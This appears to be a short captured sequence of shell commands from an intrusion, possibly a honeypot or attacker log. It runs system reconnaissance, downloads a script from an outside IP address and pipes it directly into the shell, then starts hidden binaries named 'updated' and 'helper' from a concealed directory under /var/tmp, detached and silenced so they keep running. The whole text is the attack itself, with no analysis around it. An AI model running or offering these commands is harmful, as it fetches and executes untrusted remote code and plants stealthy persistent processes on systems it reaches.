id
uname -a
curl -fsSL http://203.0.113.45/i.sh | sh
setsid /var/tmp/.cache/updated >/dev/null 2>&1 &
(nohup /var/tmp/.cache/helper >/dev/null 2>&1 &)
